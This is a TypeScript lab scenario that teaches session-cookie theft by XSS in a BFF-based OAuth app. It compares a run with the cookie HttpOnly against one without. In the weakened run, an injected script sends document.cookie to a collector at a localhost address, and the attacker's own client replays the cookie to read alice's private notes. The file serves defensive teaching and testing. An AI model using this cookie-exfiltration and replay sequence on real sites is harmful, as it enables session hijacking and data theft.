import { defineAttack } from '../engine/define-attack.ts';
import { errorCodeOf } from '../library/attack-support.ts';
import { sessionCookie } from '../library/browser-view.ts';
import { ALICE_SECRET_NOTE, readNotes } from '../library/notes-view.ts';
import { signInByRequests } from '../library/sign-in.ts';
import { loadAppWithXss, lootData, lootFrom, signOutThroughSpa } from '../library/xss.ts';

/**
 * Session cookie theft by XSS, replayed from the attacker's machine (OWASP Session Management
 * Cheat Sheet, "HttpOnly attribute"; OAuth 2.0 for Browser-Based Applications, BFF section:
 * the session cookie is HttpOnly). With a BFF the cookie is the session: whoever presents it is
 * alice, from any machine, until the session ends.
 */
export const [stolenCookie, stolenCookieWeakened] = defineAttack({
  id: 'attack-stolen-cookie',
  title: 'Stolen session cookie: an XSS reads bff_session and Mallory replays it from her own machine',
  threat:
    'Session hijacking with a cookie read by an injected script (OWASP Session Management Cheat Sheet, HttpOnly; OAuth 2.0 for Browser-Based Applications, BFF section: HttpOnly session cookies)',
  defence: 'cookie-httponly',
  alwaysWeaken: ['spa-csp'],
  teaches:
    "With a BFF the session cookie is what a token is in the browser: whoever presents it gets alice's API calls, from any machine. HttpOnly keeps it out of document.cookie, so an injected script cannot read it (it can still use the open page, see attack-xss-proxy, but cannot take the session away with it). Without HttpOnly, one line of script sends it to Mallory, who replays it until the BFF session ends; signing out ends it, because the session lives on the server and the cookie is only its id.",
  prerequisites: [
    'alice (Resource Owner) signs in to the app in her browser (User Agent), with the BFF.',
    "The app has an XSS bug: the lab's hook makes its page load Mallory's \"steal-storage\" script, which POSTs document.cookie and web storage to Mallory's collector (http://[::1]:6660/collect by default).",
    "The SPA's Content-Security-Policy is off in both runs: its connect-src would stop the report itself, and this scenario is about what the script can read.",
  ],
  async run({ topology, lab, step, newUserAgent, fetchAs }, { defended }) {
    const spa = topology.spa.url;
    await lab.clearLoot();
    const browser = await newUserAgent();
    const page = await browser.newPage();

    await step({ actor: 'Resource Owner', action: 'signs in to the app', look: 'the attributes of the session cookie the BFF sets' }, async (s) => {
      await signInByRequests(page, topology, 'alice');
      const cookie = await sessionCookie(browser, spa);
      s.expect('the app shows alice signed in', 'alice', await page.getByTestId('user-name').textContent());
      if (defended) {
        s.expect('bff_session is HttpOnly: for the browser to send, not for scripts to read', true, cookie?.httpOnly);
        s.sees({ browser: 'bff_session and bff_session.sig, both HttpOnly', bff: "alice's session, and her tokens in it" });
      } else {
        s.expectLeak('bff_session is NOT HttpOnly in this run: page scripts can read it', false, cookie?.httpOnly);
        s.sees({ browser: 'bff_session and bff_session.sig, readable by any script on the page', bff: "alice's session, and her tokens in it" });
      }
    });

    let stolen = '';
    await step(
      {
        actor: 'Attacker',
        action: "her script runs in alice's page as it loads (the XSS) and sends document.cookie to her collector",
        look: 'the cookie field of the report',
      },
      async (s) => {
        const run = await loadAppWithXss(lab, page, 'steal-storage');
        const report = (await lootFrom(lab, 'steal-storage'))[0];
        const cookie = lootData(report).cookie;
        stolen = typeof cookie === 'string' ? cookie : '';
        s.check(
          'the script ran and its report reached the attacker',
          'a report at /collect/steal-storage',
          report ? 'reported' : `no report (script ${run.status})`,
          report !== undefined,
        );
        if (defended) {
          s.expect('document.cookie was empty: no bff_session in the report', '', stolen);
          s.note(
            'HttpOnly cookies are left out of document.cookie (RFC 6265 §5.4, "http-only-flag"): the browser still sends them with the page\'s requests, but no script can read them.',
          );
          s.sees({ attacker: 'an empty cookie string', browser: "bff_session, out of the script's reach" });
        } else {
          const names = stolen.split(';').map((pair) => pair.trim().split('=')[0]);
          s.expectLeak(
            'the report holds the session cookie and its signature',
            ['bff_session', 'bff_session.sig'],
            names.filter((name) => name?.startsWith('bff_session')).sort(),
          );
          s.note('The cookie is opaque (a random id, no token inside), but it does not need to be readable to be useful: it is the session.');
          s.sees({ attacker: "alice's bff_session and bff_session.sig", browser: 'the same cookie; alice notices nothing' });
        }
      },
    );

    await step(
      {
        actor: 'Attacker',
        action: `replays what she got from her own machine: GET ${spa}/api/notes with Cookie: <stolen> and X-CSRF: 1`,
        look: "the BFF's answer",
      },
      async (s) => {
        const response = await fetchAs('attacker', `${spa}/api/notes`, { headers: { ...(stolen ? { Cookie: stolen } : {}), 'X-CSRF': '1' } });
        const text = await response.text();
        if (defended) {
          s.expect('she has no cookie to send', '', stolen);
          s.expect(
            'so the BFF sees no session: 401 not_authenticated',
            { status: 401, error: 'not_authenticated' },
            { status: response.status, error: errorCodeOf(text) },
          );
          s.sees({ attacker: 'a 401', bff: 'a request without a session' });
        } else {
          const notes = readNotes(JSON.parse(text || '{}'));
          s.expectLeak(
            "the BFF takes her for alice and forwards with alice's token: 200",
            { status: 200, owner: 'alice' },
            { status: response.status, owner: notes.owner },
          );
          s.checkLeak('her private note among them', ALICE_SECRET_NOTE, notes.texts, notes.texts.includes(ALICE_SECRET_NOTE));
          s.note(
            "X-CSRF: 1 stops other sites' pages in alice's browser, not Mallory's own HTTP client, which sends any header it likes. The BFF cannot tell her machine from alice's browser: the cookie is all it goes by.",
          );
          s.sees({ attacker: "alice's notes, through the BFF, from her own machine", bff: "alice's session in use from two places" });
        }
      },
    );

    await step({ actor: 'Resource Owner', action: 'signs out', look: 'the BFF session ends on the server (POST /bff/logout)' }, async (s) => {
      await signOutThroughSpa(page, topology);
      const after = await browser.request.get(`${spa}/bff/user`, { headers: { 'X-CSRF': '1' } });
      s.expect('she is signed out: /bff/user answers 401', 401, after.status());
      s.sees({ browser: 'no session', bff: 'nothing about alice: the session and its tokens are gone, the refresh token revoked' });
    });

    await step(
      {
        actor: 'Attacker',
        action: 'replays the stolen cookie again, after alice has signed out',
        look: 'what the cookie is worth without the session behind it',
      },
      async (s) => {
        if (defended) {
          s.expect('she never had a cookie to replay', '', stolen);
          s.sees({ attacker: 'nothing, before and after' });
          return;
        }
        const response = await fetchAs('attacker', `${spa}/api/notes`, { headers: { Cookie: stolen, 'X-CSRF': '1' } });
        s.expect(
          '401 not_authenticated: the cookie names a session that no longer exists',
          { status: 401, error: 'not_authenticated' },
          { status: response.status, error: errorCodeOf(await response.text()) },
        );
        s.note(
          'The cookie is only an id; the session lives in the BFF. Ending it there ends it for every copy of the cookie, which is why a BFF session can be revoked and a stolen bearer token cannot (until it expires).',
        );
        s.sees({ attacker: 'a dead cookie', bff: 'an id it does not know' });
      },
    );
  },
});
